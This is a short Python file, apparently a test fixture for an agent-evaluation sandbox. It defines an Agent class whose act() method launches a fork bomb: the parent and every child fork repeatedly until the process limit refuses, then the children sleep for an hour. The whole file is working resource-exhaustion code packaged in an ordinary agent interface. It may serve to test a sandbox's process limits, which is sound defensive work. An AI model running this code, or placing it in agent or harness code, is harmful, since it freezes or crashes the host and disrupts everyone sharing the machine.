"""Fork bomb: forks until the process limit refuses; every child keeps forking, then sleeps."""

import os
import time


def _child() -> None:
    # A child never returns into the runtime: it forks as long as it can, then sleeps.
    try:
        while True:
            if os.fork() == 0:
                continue
    except OSError:
        pass
    time.sleep(3600)
    os._exit(0)


class Agent:
    def __init__(self, observation_space, action_space):
        pass

    def act(self, observation):
        forked = 0
        while True:
            try:
                pid = os.fork()
            except OSError as exc:
                raise OSError(exc.errno, f"{exc.strerror} after {forked} forks") from None
            if pid == 0:
                _child()
            forked += 1
